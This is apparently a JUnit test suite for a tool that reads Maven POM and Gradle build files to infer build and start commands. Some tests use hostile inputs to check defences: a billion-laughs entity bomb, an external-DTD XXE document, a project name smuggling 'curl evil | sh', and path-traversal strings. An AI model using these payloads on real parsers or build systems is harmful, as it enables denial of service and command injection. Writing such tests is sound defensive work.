package dev.autodeploy.analyzer.engine;

import java.nio.file.Path;
import java.time.Duration;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

class JavaManifestsTests {

    @TempDir
    Path repo;

    private final Warnings warnings = new Warnings();
    private final JavaManifests reader = new JavaManifests(new PackageManagers());

    private RepositoryFiles files() {
        return new RepositoryFiles(repo);
    }

    private Manifest read(RepositoryFiles files, String directory) {
        return reader.read(files.tree(), directory, warnings).orElseThrow();
    }

    @Test
    void xmlParserRefusesDoctypesSoNoEntityIsExpanded() {
        String billionLaughs = """
                <?xml version="1.0"?>
                <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
                <project><artifactId>&lol2;</artifactId></project>
                """;
        assertThatThrownBy(() -> UntrustedXml.parse(billionLaughs)).hasMessageContaining("DOCTYPE");
        String parameterEntity = """
                <?xml version="1.0"?>
                <!DOCTYPE project [<!ENTITY % remote SYSTEM "http://127.0.0.1:1/x.dtd"> %remote;]>
                <project/>
                """;
        assertThatThrownBy(() -> UntrustedXml.parse(parameterEntity)).hasMessageContaining("DOCTYPE");
    }

    @Test
    void malformedPomIsAWarning() {
        Analysis analysis = files().write("pom.xml", "<project><artifactId>x</project>").analyze();
        assertThat(analysis.apps()).isEmpty();
        assertThat(analysis.warnings()).anyMatch(warning -> warning.startsWith("pom.xml is not well-formed XML"));
    }

    @Test
    void pomScopesPluginsPropertiesAndFinalNameAreRead() {
        Manifest manifest = read(files().write("pom.xml", """
                <project xmlns="http://maven.apache.org/POM/4.0.0">
                  <groupId>com.acme</groupId>
                  <artifactId>orders</artifactId>
                  <version>2.1.0</version>
                  <packaging>war</packaging>
                  <properties>
                    <maven.compiler.source>1.8</maven.compiler.source>
                    <lib.version>5.1</lib.version>
                    <start-class>com.acme.Main</start-class>
                  </properties>
                  <dependencies>
                    <dependency><groupId>com.acme</groupId><artifactId>lib</artifactId><version>${lib.version}</version></dependency>
                    <dependency><groupId>jakarta.servlet</groupId><artifactId>jakarta.servlet-api</artifactId><scope>provided</scope></dependency>
                    <dependency><groupId>junit</groupId><artifactId>junit</artifactId><scope>test</scope></dependency>
                  </dependencies>
                  <build>
                    <finalName>orders-app</finalName>
                    <plugins><plugin><artifactId>maven-war-plugin</artifactId></plugin></plugins>
                  </build>
                </project>
                """), "");
        assertThat(manifest.name()).isEqualTo("orders");
        assertThat(manifest.production()).containsExactly(java.util.Map.entry("com.acme:lib", "5.1"));
        assertThat(manifest.development()).containsOnlyKeys("jakarta.servlet:jakarta.servlet-api", "junit:junit",
                "org.apache.maven.plugins:maven-war-plugin");
        assertThat(manifest.placeholders()).containsEntry("jar", "target/orders-app.war")
                .containsEntry("mainJar", "target/orders-app.war").containsEntry("mvn", "mvn");
        assertThat(manifest.runtimeVersion()).isEqualTo("8");
    }

    @Test
    void aggregatorPomHasModulesAndNoJar() {
        Manifest manifest = read(files().write("pom.xml", """
                <project><artifactId>parent</artifactId><version>1</version><packaging>pom</packaging>
                <modules><module>api</module><module>./web</module><module>../escape</module></modules></project>
                """), "");
        assertThat(manifest.workspaces()).containsExactly("api", "web");
        assertThat(manifest.placeholders()).doesNotContainKey("jar");
    }

    @Test
    void pinnedJavaVersionFilesWinOverTheBuildsTarget() {
        RepositoryFiles files = files().write("pom.xml",
                "<project><artifactId>a</artifactId><properties><java.version>17</java.version></properties></project>");
        assertThat(read(files, "").runtimeVersion()).isEqualTo("17");
        assertThat(read(files.write(".tool-versions", "java temurin-21.0.4+7.0.LTS\n"), "").runtimeVersion())
                .isEqualTo("21.0.4");
        assertThat(read(files.write(".sdkmanrc", "# sdk env\njava=22.0.2-tem\n"), "").runtimeVersion())
                .isEqualTo("22.0.2");
        Manifest pinned = read(files.write(".java-version", "23\n"), "");
        assertThat(pinned.runtimeVersion()).isEqualTo("23");
        assertThat(pinned.evidence()).contains(new Evidence("runtimeVersion", ".java-version", "23"));
    }

    @Test
    void javaVersionsAreNormalised() {
        assertThat(JavaManifests.javaVersion("1.8")).isEqualTo("8");
        assertThat(JavaManifests.javaVersion("21.0.2-tem")).isEqualTo("21.0.2");
        assertThat(JavaManifests.javaVersion("openjdk-21")).isEqualTo("21");
        assertThat(JavaManifests.javaVersion("${java.version}")).isNull();
    }

    @Test
    void kotlinMavenPluginMakesItKotlin() {
        Manifest manifest = read(files().write("pom.xml", """
                <project><artifactId>k</artifactId><build><plugins><plugin>
                <groupId>org.jetbrains.kotlin</groupId><artifactId>kotlin-maven-plugin</artifactId>
                </plugin></plugins></build></project>
                """), "");
        assertThat(manifest.language()).isEqualTo("kotlin");
    }

    @Test
    void groovyGradleBuildIsReadAsText() {
        Manifest manifest = read(files().write("settings.gradle", "rootProject.name = 'demo'\n")
                .write("build.gradle", """
                        plugins {
                        	id 'java'
                        	id 'org.springframework.boot' version '3.3.5'
                        	id 'io.spring.dependency-management' version '1.1.6'
                        }

                        group = 'com.example'
                        version = '0.0.1-SNAPSHOT'

                        java {
                        	sourceCompatibility = '17'
                        }

                        dependencies {
                        	implementation 'org.springframework.boot:spring-boot-starter-web'
                        	// implementation 'org.example:commented-out:1.0'
                        	runtimeOnly 'org.postgresql:postgresql'
                        	developmentOnly 'org.springframework.boot:spring-boot-devtools'
                        	testImplementation 'org.springframework.boot:spring-boot-starter-test'
                        	implementation group: 'ignored', name: 'map-notation', version: '1'
                        }
                        """).write("gradlew", "#!/bin/sh\n"), "");
        assertThat(manifest.name()).isEqualTo("demo");
        assertThat(manifest.packageManager()).isEqualTo("gradle");
        assertThat(manifest.production()).containsOnlyKeys("org.springframework.boot:spring-boot-starter-web",
                "org.postgresql:postgresql");
        assertThat(manifest.development()).containsKeys("org.springframework.boot", "java",
                "org.springframework.boot:spring-boot-devtools", "org.springframework.boot:spring-boot-starter-test")
                .containsEntry("org.springframework.boot", "3.3.5");
        assertThat(manifest.placeholders()).containsEntry("gradle", "./gradlew")
                .containsEntry("jar", "build/libs/demo-0.0.1-SNAPSHOT.jar");
        assertThat(manifest.runtimeVersion()).isEqualTo("17");
        assertThat(manifest.language()).isEqualTo("java");
    }

    @Test
    void springBootGradleGetsGradleCommandsNotMavens() {
        Analysis analysis = files().write("settings.gradle", "rootProject.name = 'demo'\n")
                .write("build.gradle", "plugins { id 'org.springframework.boot' version '3.3.5' }\nversion = '1.0'\n")
                .analyze();
        assertThat(analysis.framework().id()).isEqualTo("spring-boot-gradle");
        assertThat(analysis.buildConfiguration().buildCommand()).isEqualTo("gradle build -x check");
        assertThat(analysis.buildConfiguration().startCommand()).isEqualTo("java -jar build/libs/demo-1.0.jar");
        assertThat(analysis.buildConfiguration().devCommand()).isEqualTo("gradle bootRun");
    }

    @Test
    void plainGradleAndPlainMavenEachFallBackToTheirOwnRule() {
        Analysis gradle = files().write("build.gradle.kts", "plugins { `java-library` }\n").analyze();
        assertThat(gradle.framework().id()).isEqualTo("gradle");
        assertThat(gradle.framework().confidence()).isEqualTo(0.5);
        assertThat(gradle.buildConfiguration().buildCommand()).isEqualTo("gradle build -x check");
    }

    @Test
    void gradleApplicationPluginInstallsAndRunsTheDistribution() {
        Analysis analysis = files().write("settings.gradle.kts", "rootProject.name = \"tool\"\n")
                .write("build.gradle.kts", "plugins {\n    application\n    kotlin(\"jvm\") version \"2.0.21\"\n}\n"
                        + "application { mainClass = \"MainKt\" }\n")
                .analyze();
        assertThat(analysis.framework().id()).isEqualTo("gradle-application");
        assertThat(analysis.language()).isEqualTo("kotlin");
        assertThat(analysis.buildConfiguration().buildCommand()).isEqualTo("gradle installDist");
        assertThat(analysis.buildConfiguration().startCommand()).isEqualTo("build/install/tool/bin/tool");
    }

    @Test
    void settingsIncludesBecomeDirectoriesInBothDsls() {
        assertThat(JavaManifests.includes("include(\"app\", \":libs:core\")\ninclude(\":tools\")"))
                .containsExactly("app", "libs/core", "tools");
        assertThat(JavaManifests.includes("include 'app', 'web'\ninclude \":services:api\"\n"))
                .containsExactly("app", "web", "services/api");
        assertThat(JavaManifests.includes("include(\"../outside\", \"$(evil)\")")).isEmpty();
    }

    @Test
    void commentsAreStrippedButUrlsInStringsAreKept() {
        assertThat(JavaManifests.stripComments("a /* b */ c // d\nurl(\"https://x\") // e"))
                .isEqualTo("a   c \nurl(\"https://x\") ");
    }

    @Test
    void gradleVersionCanComeFromGradleProperties() {
        Manifest manifest = read(files().write("settings.gradle.kts", "rootProject.name = \"svc\"")
                .write("build.gradle.kts", "plugins { java }").write("gradle.properties", "version=3.2.1\n"), "");
        assertThat(manifest.placeholders()).containsEntry("jar", "build/libs/svc-3.2.1.jar");
    }

    @Test
    void unsafeProjectNamesNeverReachACommand() {
        Manifest manifest = read(files().write("settings.gradle.kts", "rootProject.name = \"x; curl evil | sh\"")
                .write("build.gradle.kts", "plugins { application }"), "");
        assertThat(manifest.placeholders()).doesNotContainKeys("jar", "artifact", "gradleName");
    }

    @Test
    void parentPathsAreNormalisedAndMayNotLeaveTheRepository() {
        assertThat(JavaManifests.normalize("web/../pom.xml")).contains("pom.xml");
        assertThat(JavaManifests.normalize("a/./b/../../c/pom.xml")).contains("c/pom.xml");
        assertThat(JavaManifests.normalize("../pom.xml")).isEmpty();
    }

    @Test
    void hostileGradleFilesAreReadInLinearTime() {
        String hostile = "/*".repeat(100_000) + "\n".repeat(200_000) + "include 'a'" + " 'b' ".repeat(10_000) + "x";
        String noVersion = "\n".repeat(300_000) + "group = 'x'\n";
        RepositoryFiles files = files().write("build.gradle", hostile).write("settings.gradle", hostile)
                .write("gradle.properties", noVersion).write("sub/build.gradle", noVersion);
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> reader.read(files.tree(), "", warnings));
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> reader.read(files.tree(), "sub", warnings));
    }
}
